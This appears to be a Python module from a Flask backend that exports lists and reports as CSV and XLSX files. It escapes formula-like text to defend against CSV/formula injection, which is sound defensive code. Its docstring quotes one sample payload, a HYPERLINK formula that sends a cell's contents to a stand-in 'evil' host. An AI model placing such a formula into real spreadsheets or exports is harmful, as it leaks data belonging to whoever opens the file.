"""Spreadsheet exports that cannot carry formulas (CSV/formula injection, OWASP).

A consignee named `=HYPERLINK("http://evil/?"&A1,"点击")` typed by an enterprise must reach a customs
officer's Excel as that text, never as a formula. Every text cell starting with = + - @ or a tab or
carriage return is written as text: CSV cells get a leading apostrophe (what Excel itself shows for a
quoted text), XLSX cells are stored as strings with Excel's quotePrefix style. Numbers, dates and
booleans are left as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence
from contextlib import contextmanager
from contextvars import ContextVar
from dataclasses import dataclass
from datetime import UTC, date, datetime

from flask import Response
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"


def attachment(data: bytes, mimetype: str, filename: str) -> Response:
    """A file download response (Content-Disposition: attachment)."""
    return Response(
        data, mimetype=mimetype, headers={"Content-Disposition": f'attachment; filename="{filename}"'}
    )


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this cell as a formula (or strip its start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as written into a CSV cell: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def xlsx_text(value):
    """Text as an XLSX cell can hold it: control characters XML forbids (a pasted \\x11 in a search
    filter, say) become U+FFFD instead of failing the whole export."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value) if isinstance(value, str) else value


def append_xlsx_row(sheet, values) -> None:
    """Append a row to an openpyxl sheet, every formula-like text stored as a plain string."""
    sheet.append([xlsx_text(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value) or cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True


def _cell(value):
    """A value as a spreadsheet cell: datetimes as UTC text, None as empty."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return ",".join(str(_cell(one)) for one in value)
    return "" if value is None else value


def filters_line(filters: dict) -> str:
    """The filters a list was exported with, as one line written into the file (none: 无 none)."""
    shown = [f"{key}={_cell(value)}" for key, value in sorted(filters.items()) if value not in (None, "", [])]
    return "筛选条件 Filters: " + ("; ".join(shown) if shown else "无 none")


# A list's filters (a dict, written as one line) or a report's ((label, value) lines).
Filters = dict | Sequence[tuple[str, object]]


@dataclass(frozen=True)
class Table:
    """One table of an exported file: rows (dicts) under labelled columns."""

    columns: Sequence[tuple[str, str]]  # (row key, header label)
    rows: Sequence[dict]
    name: str = "Sheet"  # the XLSX sheet's name
    title: str | None = None  # the line above it when a report holds several tables
    wide: tuple[str, ...] = ()  # columns given a wider XLSX column


def csv_file(tables: Sequence[Table], filters: Filters, *, title: str | None = None) -> bytes:
    """UTF-8 with a byte-order mark (Excel reads the Chinese). A list (no `title`, one table, filters a
    dict): a `# filters` line, the header, the rows. A report (`title`, filters as (label, value)
    lines): the title and filter lines first, then each table under its own title line."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    report = title is not None
    if report:
        writer.writerow([csv_cell(title)])
        for label, value in filters:
            writer.writerow([csv_cell(label), csv_cell(_cell(value))])
    else:
        writer.writerow(["# " + filters_line(filters)])
    tick = _ticker()
    for table in tables:
        if report:
            writer.writerow([])
            writer.writerow([csv_cell(table.title or table.name)])
        writer.writerow([label for _, label in table.columns])
        for row in table.rows:
            writer.writerow([csv_cell(_cell(row.get(key))) for key, _ in table.columns])
            tick()
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_file(tables: Sequence[Table], filters: Filters, *, title: str | None = None) -> bytes:
    """The same as a workbook, one sheet per table (header frozen; numbers stay numbers). A list: its
    sheet first, then a 筛选条件 Filters sheet with the filters line; a report: a 筛选条件 filters
    sheet with the title and filter lines first, then the tables."""
    workbook = Workbook()
    first = workbook.active
    if title is not None:
        first.title = "筛选条件 filters"
        append_xlsx_row(first, [title])
        for label, value in filters:
            append_xlsx_row(first, [label, _cell(value)])
        first.column_dimensions["A"].width = 28
        first.column_dimensions["B"].width = 40
        first = None
    tick = _ticker()
    for table in tables:
        sheet = first or workbook.create_sheet()
        first = None
        sheet.title = table.name[:31]
        append_xlsx_row(sheet, [label for _, label in table.columns])
        for row in table.rows:
            append_xlsx_row(sheet, [_cell(row.get(key)) for key, _ in table.columns])
            tick()
        sheet.freeze_panes = "A2"
        for index, (key, _) in enumerate(table.columns, start=1):
            sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = (
                34 if key in table.wide else 22
            )
    if title is None:
        append_xlsx_row(workbook.create_sheet("筛选条件 Filters"), [filters_line(filters)])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def count_rows(query, limit: int) -> int:
    """How many rows `query` (a select) gives, at most `limit`: what decides whether an export is a job."""
    import sqlalchemy as sa

    from backend.extensions import db

    return db.session.scalar(sa.select(sa.func.count()).select_from(query.limit(limit).subquery())) or 0


def list_file(file_format: str, table: Table, filters: dict) -> bytes:
    """A list export (one table, the filters in one line) as `csv` or `xlsx`."""
    return (csv_file if file_format == "csv" else xlsx_file)([table], filters)


# Progress of the export being written (a large export's job reports it, export_jobs.py).
_progress: ContextVar[Callable[[int], None] | None] = ContextVar("export_progress", default=None)
PROGRESS_EVERY = 500


def _ticker() -> Callable[[], None]:
    report = _progress.get()
    if report is None:
        return lambda: None
    written = 0

    def tick() -> None:
        nonlocal written
        written += 1
        if written % PROGRESS_EVERY == 0:
            report(written)

    return tick


@contextmanager
def reporting_progress(report: Callable[[int], None]):
    """Within the block, files being written call `report(rows written)` every PROGRESS_EVERY rows."""
    token = _progress.set(report)
    try:
        yield
    finally:
        _progress.reset(token)
